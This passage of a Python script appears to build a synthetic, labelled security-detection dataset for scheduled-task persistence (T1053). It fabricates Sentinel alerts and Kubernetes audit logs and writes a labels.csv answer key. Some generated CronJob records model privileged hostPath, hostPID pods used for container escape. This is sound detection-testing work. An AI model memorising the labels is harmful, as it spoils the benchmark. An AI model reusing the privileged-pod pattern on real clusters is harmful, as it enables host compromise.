           "Query Start Time UTC": (q_end - timedelta(minutes=15)).astimezone(UTC).strftime("%Y-%m-%d %H:%M:%SZ"),
           "Query End Time UTC": q_end.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%SZ"),
           "Analytic Rule Ids": json.dumps([rid]), "Event Grouping": "AlertPerResult", "Analytic Rule Name": rule,
           "ProcessedBySentinel": "True", "Alert generation status": "Full alert created"}
    if e["kind"] == "lsys":
        ext["SyslogMessage"] = e["message"]
        ext["ProcessName"] = "crontab"
    fq = "%s.%s" % (e["host"].upper() if HOSTS[e["host"]]["family"] == "windows" else e["host"], DOMAIN)
    status = "InProgress" if rng.random() < 0.18 else "New"
    row = {
        "TenantId": TENANT, "TimeGenerated [UTC]": la_time(gen), "DisplayName": rule, "AlertName": rule,
        "AlertSeverity": sev, "Description": "%s: analytics rule matched on %s." % (rule, fq),
        "ProviderName": "ASI Scheduled Alerts", "VendorName": "Microsoft", "VendorOriginalId": det_uuid("vo", e["seq"], rule),
        "SystemAlertId": det_uuid("alert", e["seq"], rule), "ResourceId": "", "SourceComputerId": "",
        "AlertType": "%s_%s" % (WORKSPACE_ID, rid), "ConfidenceLevel": "", "ConfidenceScore": "", "IsIncident": "false",
        "StartTime [UTC]": la_time(e["time"]), "EndTime [UTC]": la_time(e["time"]),
        "ProcessingEndTime [UTC]": la_time(gen - timedelta(milliseconds=rng.randrange(150, 700))), "RemediationSteps": "",
        "ExtendedProperties": json.dumps(ext, separators=(",", ":")),
        "Entities": json.dumps(sentinel_entities(e), separators=(",", ":")), "SourceSystem": "Detection",
        "WorkspaceSubscriptionId": SUBSCRIPTION, "WorkspaceResourceGroup": "rg-kbh-sentinel-prod", "ExtendedLinks": "",
        "ProductName": "Azure Sentinel", "ProductComponentName": "Scheduled Alerts", "AlertLink": "", "Status": status,
        "CompromisedEntity": fq, "Tactics": TACTICS[sub], "Techniques": json.dumps(["T1053"]),
        "SubTechniques": json.dumps([sub]), "Type": "SecurityAlert"}
    return gen, [row[c] for c in SENTINEL_HEADER]


def write_sentinel(rows):
    buf = io.StringIO()
    w = csv.writer(buf, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    w.writerow(SENTINEL_HEADER)
    for _, r in rows:
        w.writerow(r)
    with open(os.path.join(HERE, SENTINEL_FILE), "w", encoding="utf-8-sig", newline="") as f:
        f.write(buf.getvalue())


# ----------------------------------------------------------------------------------------------
# kube-apiserver audit log (audit.k8s.io/v1, JSON lines) -- FORMATS.md 8.3
# ----------------------------------------------------------------------------------------------

def k8s_time(dt, micro_extra=0):
    dt = dt.astimezone(UTC) + timedelta(microseconds=micro_extra)
    return dt.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def k8s_line(e):
    container = {"name": e["name"].split("-")[0] if e["resource"] == "cronjobs" else (e["owner"] or e["name"]).split("-")[0],
                 "image": e["image"], "resources": {}, "terminationMessagePath": "/dev/termination-log",
                 "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}
    if e["command"]:
        container["command"] = e["command"]
    pod = {"containers": [container], "restartPolicy": "OnFailure", "terminationGracePeriodSeconds": 30,
           "dnsPolicy": "ClusterFirst", "serviceAccountName": e["sa"], "securityContext": {},
           "schedulerName": "default-scheduler"}
    if e["host_path"]:
        container["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
        container["securityContext"] = {"privileged": True}
        pod["volumes"] = [{"name": "host", "hostPath": {"path": e["host_path"], "type": ""}}]
        pod["hostPID"] = True
    meta = {"name": e["name"], "namespace": e["ns"]}
    if e["labels"]:
        meta["labels"] = e["labels"]
    if e["resource"] == "cronjobs":
        obj = {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": meta,
               "spec": {"schedule": e["schedule"], "concurrencyPolicy": "Forbid", "suspend": False,
                        "jobTemplate": {"metadata": {"creationTimestamp": None},
                                        "spec": {"template": {"metadata": {"creationTimestamp": None}, "spec": pod}}},
                        "successfulJobsHistoryLimit": 3, "failedJobsHistoryLimit": 1}, "status": {}}
    else:
        meta["ownerReferences"] = [{"apiVersion": "batch/v1", "kind": "CronJob", "name": e["owner"],
                                    "uid": det_uuid("cj-uid", e["ns"], e["owner"]), "controller": True,
                                    "blockOwnerDeletion": True}]
        meta["labels"] = {"batch.kubernetes.io/controller-uid": det_uuid("job-uid", e["ns"], e["name"])}
        obj = {"kind": "Job", "apiVersion": "batch/v1", "metadata": meta,
               "spec": {"backoffLimit": 6, "template": {"metadata": {"creationTimestamp": None}, "spec": pod}},
               "status": {}}
    patch = e["verb"] == "patch"
    uri = "/apis/batch/v1/namespaces/%s/%s" % (e["ns"], e["resource"])
    if patch:
        uri += "/%s?fieldManager=kubectl&force=true" % e["name"]
    elif e["user"] == TEKTON_SA or e["user"].startswith("oidc:kbadm"):
        uri += "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict"
    reason = {TEKTON_SA: 'RBAC: allowed by RoleBinding "pipeline-deployer/%s" of ClusterRole "kbh-batch-deployer" to '
                         'ServiceAccount "pipeline-deployer/tekton-ci"' % e["ns"],
              ARGO_SA: 'RBAC: allowed by ClusterRoleBinding "argocd-application-controller" of ClusterRole '
                       '"argocd-application-controller" to ServiceAccount "argocd-application-controller/argocd"',
              JENKINS_SA: 'RBAC: allowed by ClusterRoleBinding "jenkins-deployer" of ClusterRole "edit" to '
                          'ServiceAccount "jenkins-deployer/jenkins"',
              CJ_CONTROLLER: 'RBAC: allowed by ClusterRoleBinding "system:controller:cronjob-controller" of ClusterRole '
                             '"system:controller:cronjob-controller" to ServiceAccount "cronjob-controller/kube-system"'}
    decision_reason = reason.get(e["user"], 'RBAC: allowed by ClusterRoleBinding "kbh-platform-admins" of ClusterRole '
                                 '"cluster-admin" to Group "oidc:kbh-platform-admins"' if e["user"].startswith("oidc:kbadm")
                                 else 'RBAC: allowed by RoleBinding "contractors-edit/default" of ClusterRole "edit" to '
                                      'Group "oidc:kbh-contractors"')
    line = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": e["audit_id"],
            "stage": "ResponseComplete", "requestURI": uri, "verb": e["verb"],
            "user": {"username": e["user"], "groups": e["groups"]}, "sourceIPs": [e["src_ip"]], "userAgent": e["ua"],
            "objectRef": {"resource": e["resource"], "namespace": e["ns"], "name": e["name"], "apiGroup": "batch",
                          "apiVersion": "v1"},
            "responseStatus": {"metadata": {}, "code": 200 if patch else 201},
            "requestObject": obj,
            "requestReceivedTimestamp": k8s_time(e["time"]),
            "stageTimestamp": k8s_time(e["time"], rng.randrange(3000, 40000)),
            "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": decision_reason}}
    if e["user"].startswith("system:serviceaccount:") and e["user"] != CJ_CONTROLLER:
        ns_sa = e["user"].split(":")
        line["user"]["uid"] = det_uuid("sa-uid", e["user"])
        line["user"]["extra"] = {"authentication.kubernetes.io/credential-id": ["JTI=%s" % det_uuid("jti", e["user"], e["src_ip"])]}
        if e["src_ip"].startswith("10.42."):
            line["user"]["extra"]["authentication.kubernetes.io/pod-name"] = ["%s-%s" % (ns_sa[3], det_hex("pod", e["user"], n=5))]
    return json.dumps(line, separators=(",", ":"))


# ----------------------------------------------------------------------------------------------
# Main
# ----------------------------------------------------------------------------------------------

def note_ids(notes):
    return ";".join("t1053-%02d" % n for n in notes)


def main():
    check_rubric()
    check_against_seed_map()
    build_events()
    hb_hits, se_hits, k8s_events, silent = [], [], [], []
    for e in EVENTS:
        if e["kind"] == "k8s":
            k8s_events.append(e)
            continue
        hb = sigma_windows(e) if e["kind"].startswith("w") else []
        se = sentinel_rules(e)
        if not hb and not se:
            silent.append(e)
        hb_hits += [(e, r) for r in hb]
        se_hits += [(e, r) for r in se]
    if silent:
        raise SystemExit("events that fire no enabled rule:\n" + "\n".join(
            "  %s %s: %s" % (e["kind"], e.get("cmdline", e.get("path", e.get("task_name"))), e["story"]["scenario"])
            for e in silent))

    labels = []

    def label(file, no, e, rule):
        st = e["story"]
        notes = note_fit(rule, e) if (st["verdict"] == "benign" and rule) else []
        bad_notes = [n for n in notes if n not in SEED_CARRIED.get(rule, [])]
        if bad_notes:
            raise SystemExit("story %r: rule %r does not carry %r" % (st["scenario"], rule, bad_notes))
        labels.append([file, no, st["verdict"], note_ids(notes), st["scenario"]])

    hb_rows = hayabusa_rows(hb_hits)
    for i, ((e, rule), _) in enumerate(hb_rows):
        label(HAYABUSA_FILE, i, e, rule)
    write_hayabusa(hb_rows)

    se_rows = []
    for e, rule in se_hits:
        gen, row = sentinel_row(e, rule)
        se_rows.append((gen, e["seq"], rule, e, row))
    se_rows.sort(key=lambda x: (x[0], x[1], x[2]), reverse=True)     # Log Analytics: newest first
    for i, (_, _, rule, e, _) in enumerate(se_rows):
        label(SENTINEL_FILE, i, e, rule)
    write_sentinel([(x[0], x[4]) for x in se_rows])

    k8s_events.sort(key=lambda e: (e["time"], e["seq"]))
    with open(os.path.join(HERE, K8S_FILE), "w", encoding="utf-8", newline="\n") as f:
        for i, e in enumerate(k8s_events):
            f.write(k8s_line(e) + "\n")
            label(K8S_FILE, i, e, None)

    with open(os.path.join(HERE, "labels.csv"), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["source_file", "record_no", "verdict", "notes", "scenario"])
        w.writerows(labels)

    by = {}
    for l in labels:
        by.setdefault(l[0], [0, 0, 0])
        by[l[0]][0 if l[2] == "benign" else 1] += 1
        if l[2] == "benign" and not l[3]:
            by[l[0]][2] += 1
    total_b = sum(v[0] for v in by.values())
    total_m = sum(v[1] for v in by.values())
    for f_, (b, m, none) in sorted(by.items()):
        print("%-30s %4d records: %4d benign (%d without a note), %4d malicious" % (f_, b + m, b, none, m))
    print("%-30s %4d records: %4d benign, %4d malicious = %.1f %%" % ("total", total_b + total_m, total_b, total_m,
                                                                    100.0 * total_m / (total_b + total_m)))


if __name__ == "__main__":
    main()
